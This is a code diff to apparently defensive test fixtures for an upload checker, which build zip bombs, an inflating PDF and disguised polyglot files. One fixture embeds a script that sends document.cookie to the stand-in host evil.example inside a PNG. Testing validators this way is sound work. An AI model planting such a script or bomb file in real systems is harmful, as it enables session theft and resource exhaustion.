@@ -33,16 +33,37 @@ CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
 
 
 def zip_of_zeros(size: int, *, name: str = "word/document.xml") -> bytes:
-    """A zip whose one member is ``size`` zero bytes, written in 1 MB pieces (~1000:1)."""
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr("[Content_Types].xml", "<Types/>")
-        info = zipfile.ZipInfo(name)
-        info.compress_type = zipfile.ZIP_DEFLATED
-        with archive.open(info, "w") as member:
-            for _ in range(size // MB):
-                member.write(bytes(MB))
-    return out.getvalue()
+    """A zip whose one member is ``size`` zero bytes (whole MBs), ~1000:1, built in
+    milliseconds: the member is one flushed MB's raw deflate repeated (``deflated_zeros``),
+    its CRC counted a MB at a time (compressing 200 MB took 0.7 s of CPU)."""
+    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
+    first = deflate.compress(bytes(MB)) + deflate.flush(zlib.Z_FULL_FLUSH)
+    again = deflate.compress(bytes(MB)) + deflate.flush(zlib.Z_FULL_FLUSH)
+    zeros = first + again * (size // MB - 1) + deflate.flush()
+    crc = 0
+    for _ in range(size // MB):
+        crc = zlib.crc32(bytes(MB), crc)
+    types = zlib.compressobj(9, zlib.DEFLATED, -15)
+    members = [
+        (
+            b"[Content_Types].xml",
+            types.compress(b"<Types/>") + types.flush(),
+            8,
+            zlib.crc32(b"<Types/>"),
+        ),
+        (name.encode(), zeros, size, crc),
+    ]
+    out, central = bytearray(), bytearray()
+    for member, data, length, checksum in members:
+        # version 2.0, no flags, deflated, 1980-01-01 00:00, crc, sizes, name, no extra field
+        fields = struct.pack(
+            "<HHHHHIIIHH", 20, 0, 8, 0, 0x21, checksum, len(data), length, len(member), 0
+        )
+        central += b"PK\x01\x02" + struct.pack("<H", 20) + fields
+        central += struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + member
+        out += b"PK\x03\x04" + fields + member + data
+    end = struct.pack("<HHHHIIH", 0, 0, 2, 2, len(central), len(out), 0)
+    return bytes(out + central + b"PK\x05\x06" + end)
 
 
 def declared_size(data: bytes, name: bytes, real: int, declared: int) -> bytes:
@@ -111,7 +132,9 @@ def _inflating_pdf(size: int) -> bytes:
         CATALOG,
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
-        b"<< /Length %d /Filter /FlateDecode " % len(zeros) + MARK + b" 1 >>\nstream\n"
+        b"<< /Length %d /Filter /FlateDecode " % len(zeros)
+        + MARK
+        + b" 1 >>\nstream\n"
         + zeros
         + b"\nendstream",
     )
@@ -174,29 +197,41 @@ def _image(kind: str) -> bytes:
     return out.getvalue()
 
 
-PAGE_HTML = b"<html><body><script>document.location='https://evil.example/'+document.cookie" \
+PAGE_HTML = (
+    b"<html><body><script>document.location='https://evil.example/'+document.cookie"
     b"</script></body></html>"
+)
 # files whose bytes are not what they say (name, declared type), or that are also something
 # else: (file name, bytes, the type a browser declares, what the refusal says)
 DISGUISED = {
     "html-after-png": (
-        "evidence.png", _image("PNG") + PAGE_HTML, "image/png",
+        "evidence.png",
+        _image("PNG") + PAGE_HTML,
+        "image/png",
         "this image has web page or script code inside it",
     ),
     "zip-after-jpeg": (
-        "photo.jpg", _image("JPEG") + zip_of_zeros(MB), "image/jpeg",
+        "photo.jpg",
+        _image("JPEG") + zip_of_zeros(MB),
+        "image/jpeg",
         "bytes of something else after the picture",
     ),
     "jpeg-named-png": (
-        "screenshot.png", _image("JPEG"), "image/png",
+        "screenshot.png",
+        _image("JPEG"),
+        "image/png",
         "its name ends in .png, but the file is a JPEG photo",
     ),
     "pdf-sent-as-a-page": (
-        "notes.pdf", pdf_document(), "text/html",
+        "notes.pdf",
+        pdf_document(),
+        "text/html",
         "it was sent as a web page, but the file is a PDF",
     ),
     "png-named-html": (
-        "page.html", _image("PNG"), "text/html",
+        "page.html",
+        _image("PNG"),
+        "text/html",
         "its name ends in .html, but the file is a PNG image",
     ),
 }
